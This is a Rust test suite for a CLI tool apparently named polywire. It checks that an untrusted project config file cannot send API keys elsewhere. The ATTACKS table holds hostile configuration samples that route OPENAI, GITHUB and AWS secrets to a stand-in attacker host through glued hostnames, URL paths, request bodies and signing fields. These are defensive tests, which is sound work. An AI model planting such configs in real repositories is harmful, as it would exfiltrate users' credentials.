//! R-F7, from outside: a `polywire.toml` of the working directory takes no key anywhere until the user trusts it. The attacker listens on
//! this machine; whatever leaves it has to go through a proxy that listens too.

use std::fs;
use std::process::Output;

use crate::attacker::Server;
use crate::{Home, errors, json};

const KEYS: [(&str, &str); 6] = [
    ("OPENAI_API_KEY", "sk-openai-0123456789"),
    ("DEEPSEEK_API_KEY", "sk-deepseek-0123456789"),
    ("ANTHROPIC_API_KEY", "sk-anthropic-0123456789"),
    ("GITHUB_TOKEN", "ghp-github-0123456789"),
    ("AWS_SECRET_ACCESS_KEY", "aws-secret-0123456789"),
    ("ACME_KEY", "acme-own-0123456789"),
];

struct World {
    home: Home,
    attacker: Server,
    proxy: Server,
}

impl World {
    fn new(name: &str) -> Self {
        Self { home: Home::new(name), attacker: Server::refusing(), proxy: Server::refusing() }
    }

    /// Writes a configuration in which `ATTACKER` is the attacker's address.
    fn config(&self, text: &str) {
        self.home.write("polywire.toml", &text.replace("ATTACKER", &self.attacker.address.to_string()));
    }

    fn run(&self, line: &[&str]) -> Output {
        let proxy = format!("http://{}", self.proxy.address);
        let proxies = [("HTTPS_PROXY", proxy.as_str()), ("HTTP_PROXY", proxy.as_str())];
        self.home.run(line, &[&KEYS[..], &proxies].concat())
    }
}

fn assert_no_key(text: &str, name: &str) {
    for (variable, key) in KEYS {
        assert!(!text.contains(key), "{name}: {variable} in {text}");
    }
}

const ASK: [&str; 4] = ["ask", "hi", "--deadline", "5"];
const ASK_DEEPSEEK: [&str; 6] = ["ask", "hi", "--deadline", "5", "--model", "deepseek/deepseek-chat"];
const ASK_CHAT: [&str; 6] = ["ask", "hi", "--deadline", "5", "--model", "openai:chat/gpt-4o"];
const LIST: [&str; 4] = ["models", "--provider", "openai", "--refresh"];

/// The configurations of the issue, what the user runs, and the only host that may hear of it.
const ATTACKS: [(&str, &str, &[&str], &str); 9] = [
    (
        "glued-surface",
        "[[provider]]\nid = \"deepseek\"\n[[provider.surface]]\nid = \"chat\"\nprotocol = \"openai-chat\"\npath = \".attacker.test:9443/chat/completions\"\ndialects = { tool = \"openai\" }\n",
        &ASK_DEEPSEEK,
        "CONNECT api.deepseek.com:443 ",
    ),
    (
        "glued-list",
        "[[provider]]\nid = \"openai\"\nlist = { style = \"openai\", path = \".attacker.test:9443/models\", after = \"host\" }\n",
        &LIST,
        "CONNECT api.openai.com:443 ",
    ),
    (
        "glued-to-localhost",
        "[[provider]]\nid = \"openai\"\nbase-url = \"https://localhost\"\n[[provider.surface]]\nid = \"chat\"\nprotocol = \"openai-chat\"\npath = \".attacker.test:9443/x\"\ndialects = {}\n",
        &ASK_CHAT,
        "CONNECT api.openai.com:443 ",
    ),
    (
        "key-in-path",
        "[defaults]\nmodel = \"new/x\"\n[[provider]]\nid = \"new\"\nlike = \"openai\"\nbase-url = \"http://ATTACKER/{env OPENAI_API_KEY}\"\nauth = { style = \"none\", env = [] }\n",
        &ASK,
        "",
    ),
    (
        "token-of-another",
        "[defaults]\nmodel = \"new/x\"\n[[provider]]\nid = \"new\"\nlike = \"openai\"\nbase-url = \"http://ATTACKER/v1\"\nauth = { style = \"bearer\", env = [\"GITHUB_TOKEN\"] }\n",
        &ASK,
        "",
    ),
    (
        "keys-as-ids",
        "[defaults]\nmodel = \"new/x\"\n[[provider]]\nid = \"new\"\nlike = \"bedrock\"\nbase-url = \"http://ATTACKER\"\nauth = { style = \"aws-sigv4\", env = [\"NONE\"], signature = { service = \"s\", id-env = \"ANTHROPIC_API_KEY\", secret-env = \"AWS_SECRET_ACCESS_KEY\", session-env = \"OPENAI_API_KEY\", region-env = [\"HOME\"] } }\n",
        &ASK,
        "",
    ),
    (
        "key-in-body",
        "[defaults]\nmodel = \"new/x\"\n[[provider]]\nid = \"new\"\nlike = \"gemini-cli\"\nbase-url = \"http://ATTACKER\"\nauth = { style = \"none\", env = [] }\n[[provider.surface]]\nid = \"generate\"\nprotocol = \"gemini\"\npath = \"/x\"\ndialects = {}\nwire = { envelope = \"code-assist\" }\nenvelope-env = { project = [\"OPENAI_API_KEY\"] }\n",
        &ASK,
        "",
    ),
    (
        "another-address",
        "[[provider]]\nid = \"openai\"\nbase-url = \"http://ATTACKER/v1\"\n",
        &ASK_CHAT,
        "CONNECT api.openai.com:443 ",
    ),
    (
        "another-address-for-lists",
        "[[provider]]\nid = \"openai\"\nbase-url = \"http://ATTACKER/v1\"\n",
        &LIST,
        "CONNECT api.openai.com:443 ",
    ),
];

#[test]
fn r_f7_keys_do_not_reach_an_attacker() {
    for (name, config, line, allowed) in ATTACKS {
        let world = World::new(name);
        world.config(config);
        let output = world.run(line);
        assert_eq!(world.attacker.heard(), "", "{name}");
        let heard = world.proxy.heard();
        assert_no_key(&heard, name);
        let hosts: Vec<&str> = heard.lines().filter(|line| line.starts_with("CONNECT ")).collect();
        assert!(hosts.iter().all(|line| !allowed.is_empty() && line.starts_with(allowed)), "{name}: {hosts:?}");
        assert_eq!(hosts.is_empty(), allowed.is_empty(), "{name}: the command goes on with the built-in rows");
        let error = errors(&output);
        assert_no_key(&error, name);
        assert!(error.contains("polywire.toml is not trusted, so this is ignored: provider `"), "{name}: {error}");
        assert_eq!(error.matches("`polywire config trust` trusts the file").count(), 1, "{name}: said once: {error}");
        assert!(error.contains("(line "), "{name}: {error}");
    }
}

/// Trusting the file does not help those that are glued to a host, or that hold text in the place of a variable.
#[test]
fn glued_addresses_are_mistakes_in_trusted_files_too() {
    for (name, config, line, _) in ATTACKS.into_iter().take(4) {
        let world = World::new(&format!("trusted-{name}"));
        world.config(config);
        let trusted = world.run(&["config", "trust"]);
        let told = String::from_utf8_lossy(&trusted.stdout).into_owned();
        assert_eq!(trusted.status.code(), Some(1), "{name}: {told}");
        assert!(told.contains("polywire.toml:") && told.contains("not trusted"), "{name}: {told}");
        let named = world.run(&[&["--config", "polywire.toml"], line].concat());
        assert!(named.status.code() == Some(2) && errors(&named).contains("line "), "{name}: {}", errors(&named));
        assert_eq!(world.attacker.heard() + &world.proxy.heard(), "", "{name}");
    }
}

const OWN: &str = "dialects = [\"acme.toml\"]\n[defaults]\nmodel = \"acme/x\"\n[[provider]]\nid = \"acme\"\nlike = \"groq\"\nbase-url = \"http://ATTACKER/v1\"\nauth = { style = \"bearer\", env = [\"ACME_KEY\"] }\n";
const DIALECT: &str = "id = \"acme-strict\"\ntitle = \"Acme\"\nserves = \"Acme\"\nextends = \"openai-strict\"\nsource = \"us\"\nchecked-on = \"2026-11-16\"\n";

#[test]
fn a_trusted_file_counts_until_it_or_a_file_that_it_reads_changes() {
    let world = World::new("trusted");
    world.config(OWN);
    world.home.write("acme.toml", DIALECT);
    let untrusted = world.run(&ASK);
    assert!(errors(&untrusted).contains("dialects (line 1), provider `acme` (line 4)"), "{}", errors(&untrusted));
    assert_eq!(json(&world.run(&["config", "path", "--json"]))["trusted"], false);
    let shown = json(&world.run(&["config", "show", "--json"]));
    assert_eq!((&shown["trusted"], shown["ignored"].as_array().map(Vec::len)), (&false.into(), Some(2)));
    let check = json(&world.run(&["config", "check", "--json"]));
    assert_eq!((&check["trusted"], &check["mistakes"][0]["line"]), (&false.into(), &1.into()), "{check}");

    let trust = world.run(&["config", "trust"]);
    let told = String::from_utf8_lossy(&trust.stdout).into_owned();
    assert!(trust.status.success() && told.contains("acme at http://") && told.contains("with ACME_KEY"), "{told}");
    let asked = world.run(&ASK);
    assert!(!errors(&asked).contains("not trusted"), "{}", errors(&asked));
    let heard = world.attacker.heard();
    assert!(heard.contains("authorization: Bearer acme-own-0123456789"), "{heard}");
    assert!(!heard.contains("openai-0") && !heard.contains("github"), "{heard}");
    assert_eq!(json(&world.run(&["config", "path", "--json"]))["trusted"], true);
    assert_eq!(json(&world.run(&["config", "show", "--json"]))["trusted"], true);
    assert_eq!(json(&world.run(&["config", "check", "--json"]))["trusted"], true);

    let is_trusted = || json(&world.run(&["config", "path", "--json"]))["trusted"] == true;
    world.home.write("acme.toml", &format!("{DIALECT}\n# changed\n"));
    assert!(!is_trusted(), "the dialect file changed");
    world.home.write("acme.toml", DIALECT);
    assert!(is_trusted(), "it is as it was");
    world.config(&format!("{OWN}# changed\n"));
    assert!(!is_trusted(), "the file changed");
    world.config(OWN);
    assert!(is_trusted());
    let untrust = world.run(&["config", "untrust"]);
    assert!(String::from_utf8_lossy(&untrust.stdout).contains("is not trusted any more"));
    assert!(!is_trusted());
    assert!(String::from_utf8_lossy(&world.run(&["config", "untrust"]).stdout).contains("was not trusted"));
}

#[test]
fn files_that_the_user_names_or_placed_are_trusted() {
    let world = World::new("named");
    world.config(OWN);
    world.home.write("acme.toml", DIALECT);
    let named = world.run(&["config", "path", "--json", "--config", "polywire.toml"]);
    assert_eq!(json(&named)["trusted"], true);
    let env = world.home.run(&["config", "path", "--json"], &[("POLYWIRE_CONFIG", "polywire.toml")]);
    assert_eq!(json(&env)["trusted"], true);
    let asked = world.run(&[&["--config", "polywire.toml"], &ASK[..]].concat());
    assert!(world.attacker.heard().contains("Bearer acme-own"), "{}", errors(&asked));
    // The folder of the user's configurations, also as the working directory.
    let users = json(&world.run(&["config", "path", "--json"]))["user"].as_str().expect("a path").to_owned();
    let folder = std::path::Path::new(&users).parent().expect("a folder").to_owned();
    fs::create_dir_all(&folder).expect("a folder");
    fs::copy(world.home.0.join("work/polywire.toml"), &users).expect("a file");
    fs::write(folder.join("acme.toml"), DIALECT).expect("a file");
    let mut command = world.home.polywire(&["config", "path", "--json"]);
    assert_eq!(json(&command.current_dir(&folder).output().expect("a process"))["trusted"], true);
}

/// A file that came with a folder does not switch the user's own addresses off either.
#[test]
fn r_f7_an_untrusted_file_leaves_the_users_own_in_force() {
    let world = World::new("own-proxy");
    let (own, users) = (Server::refusing(), world.home.0.join("config/polywire"));
    fs::create_dir_all(&users).expect("a folder");
    let text = format!("[[provider]]\nid = \"openai\"\nbase-url = \"http://{}/v1\"\n", own.address);
    fs::write(users.join("polywire.toml"), text).expect("a file");
    world.config("[defaults]\nmodel = \"openai:chat/gpt-4o\"\n");
    let output = world.run(&ASK);
    assert!(own.heard().contains("Bearer sk-openai-0123456789"), "{}", errors(&output));
    assert_eq!(world.proxy.heard(), "");
}

/// Dotfiles are often links: a link that the user put in the folder for configurations is as good as a file there.
#[cfg(unix)]
#[test]
fn a_link_in_the_users_folder_is_trusted() {
    let world = World::new("dotfiles");
    let users = json(&world.run(&["config", "path", "--json"]))["user"].as_str().expect("a path").to_owned();
    let dotfiles = world.home.0.join("dotfiles");
    fs::create_dir_all(&dotfiles).expect("a folder");
    fs::write(dotfiles.join("mine.toml"), "[defaults]\nmodel = \"groq/x\"\n").expect("a file");
    fs::create_dir_all(std::path::Path::new(&users).parent().expect("a folder")).expect("a folder");
    std::os::unix::fs::symlink(dotfiles.join("mine.toml"), &users).expect("a link");
    assert_eq!(json(&world.run(&["config", "path", "--json"]))["trusted"], true);
}

#[cfg(unix)]
#[test]
fn links_and_the_list_of_trusted_files_cannot_be_bent() {
    use std::os::unix::fs::{PermissionsExt as _, symlink};
    let world = World::new("links");
    let work = world.home.0.join("work");
    world.config(OWN);
    world.home.write("acme.toml", DIALECT);
    assert!(world.run(&["config", "trust"]).status.success());
    let list = json(&world.run(&["config", "path", "--json"]))["trust-list"].as_str().expect("a path").to_owned();
    assert_eq!(fs::metadata(&list).expect("the list").permissions().mode() & 0o777, 0o600);
    // The same text elsewhere is another file.
    let other = work.join("other");
    fs::create_dir_all(&other).expect("a folder");
    fs::copy(work.join("polywire.toml"), other.join("polywire.toml")).expect("a file");
    fs::copy(work.join("acme.toml"), other.join("acme.toml")).expect("a file");
    let trusted_in = |folder: &std::path::Path| {
        let mut command = world.home.polywire(&["config", "path", "--json"]);
        json(&command.current_dir(folder).output().expect("a process"))["trusted"] == true
    };
    assert!(trusted_in(&work) && !trusted_in(&other));
    // A link to a trusted file is that file, and reads what lies beside it, not beside the link.
    let link = work.join("link");
    fs::create_dir_all(&link).expect("a folder");
    symlink(work.join("polywire.toml"), link.join("polywire.toml")).expect("a link");
    fs::write(link.join("acme.toml"), "id = \"evil\"\n").expect("a file");
    assert!(trusted_in(&link));
    // A trusted path that becomes a link to another file is not trusted.
    fs::remove_file(work.join("polywire.toml")).expect("a file");
    symlink(other.join("polywire.toml"), work.join("polywire.toml")).expect("a link");
    assert!(!trusted_in(&work));
    // A list that is broken trusts nothing and is not overwritten.
    fs::write(&list, "{").expect("a file");
    assert!(!trusted_in(&link));
    let trust = world.run(&["config", "trust"]);
    assert!(trust.status.code() == Some(2) && errors(&trust).contains("trusted.json"), "{}", errors(&trust));
}

/// What counts of a file that is not trusted: models and defaults.
#[test]
fn an_untrusted_file_may_add_models_and_defaults() {
    let home = Home::new("harmless");
    home.write("request.json", r#"{"model": "", "messages": []}"#);
    home.write(
        "polywire.toml",
        "[defaults]\nmodel = \"groq/llama-99\"\n[[model]]\nprovider = \"groq\"\nid = \"llama-99\"\ncontext = 7\n[[model]]\nprovider = \"nobody\"\nid = \"x\"\n",
    );
    let planned = home.run(&["plan", "request.json", "--json"], &[]);
    assert_eq!(json(&planned)["model"], "llama-99");
    assert!(
        errors(&planned).contains("model `nobody/x` of a provider that is not built in (line 7)"),
        "{}",
        errors(&planned)
    );
    let shown = json(&home.run(&["models", "show", "groq/llama-99", "--offline", "--json"], &[]));
    assert_eq!(shown["row"]["context"], 7);
}

/// An id of a model is somebody else's text too, and a row of the table is one line.
#[test]
fn models_are_shown_without_control_characters() {
    let home = Home::new("table");
    home.write("polywire.toml", "[[model]]\nprovider = \"groq\"\nid = \"a\\u001b[2J\\nb\"\naliases = [\"\\u009bc\"]\n");
    for line in
        [&["models", "--offline", "--provider", "groq"][..], &["models", "show", "groq/a\u{1b}[2J\nb", "--offline"]]
    {
        let output = home.run(line, &[]);
        let told = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(
            told.contains(r"groq/a\u{1b}[2J\nb") && !told.contains(['\u{1b}', '\u{9b}']),
            "{told}{}",
            errors(&output)
        );
    }
}

/// Names in a file of somebody else's do not reach the terminal as they are.
#[test]
fn what_is_ignored_is_said_without_control_characters() {
    let home = Home::new("bell");
    home.write("polywire.toml", "[[provider]]\nid = \"a\\u001b[2J\\nb\"\n");
    let told = errors(&home.run(&["config", "show"], &[]));
    assert!(told.contains(r"provider `a\u{1b}[2J\nb` (line 1)"), "{told}");
}

#[cfg(unix)]
#[test]
fn only_regular_files_of_a_sensible_size_are_read() {
    let home = Home::new("kinds");
    let work = home.0.join("work");
    let fifo = work.join("fifo");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if !made.is_ok_and(|made| made.success()) {
        println!("skipped: a pipe cannot be made here");
        return;
    }
    fs::File::create(work.join("huge")).and_then(|file| file.set_len(2 << 30)).expect("a file");
    for (path, says) in [
        ("fifo", "not a file"),
        ("/dev/zero", "not a file"),
        (".", "a directory, not a file"),
        ("huge", "more than 1048576 bytes"),
        ("nowhere", "No such file"),
    ] {
        let error = errors(&home.run(&["models", "--offline", "--config", path], &[]));
        assert!(error.contains(says), "{path}: {error}");
        home.write("reads.toml", &format!("dialects = [\"{path}\"]\n"));
        let error = errors(&home.run(&["models", "--offline", "--config", "reads.toml"], &[]));
        assert!(error.contains(says), "{path} as a dialect: {error}");
    }
    fs::rename(&fifo, work.join("d.toml")).expect("a pipe");
    home.write("schema.json", "{}");
    let error = errors(&home.run(&["fit", "schema.json", "--to", "d.toml"], &[]));
    assert!(error.contains("not a file"), "{error}");
    // The cache: the command goes on without it, and makes nothing where a link points.
    for kind in ["fifo", "folder", "huge", "link"] {
        let cache = home.0.join(format!("cache-{kind}"));
        let file = cache.join("models.sqlite3");
        fs::create_dir_all(&cache).expect("a folder");
        let elsewhere = home.0.join("elsewhere.sqlite3");
        match kind {
            "fifo" => {
                let made = std::process::Command::new("mkfifo").arg(&file).status();
                assert!(made.is_ok_and(|made| made.success()));
            }
            "folder" => fs::create_dir(&file).expect("a folder"),
            "huge" => fs::File::create(&file).and_then(|file| file.set_len(2 << 30)).expect("a file"),
            _ => std::os::unix::fs::symlink(&elsewhere, &file).expect("a link"),
        }
        let folder = cache.to_str().expect("a path");
        let output = home.run(&["models", "--offline", "--provider", "openai"], &[("POLYWIRE_CACHE_DIR", folder)]);
        let error = errors(&output);
        assert!(output.status.success() && error.contains("cannot be used: it is "), "{kind}: {error}");
        assert!(!elsewhere.exists(), "{kind}");
    }
}
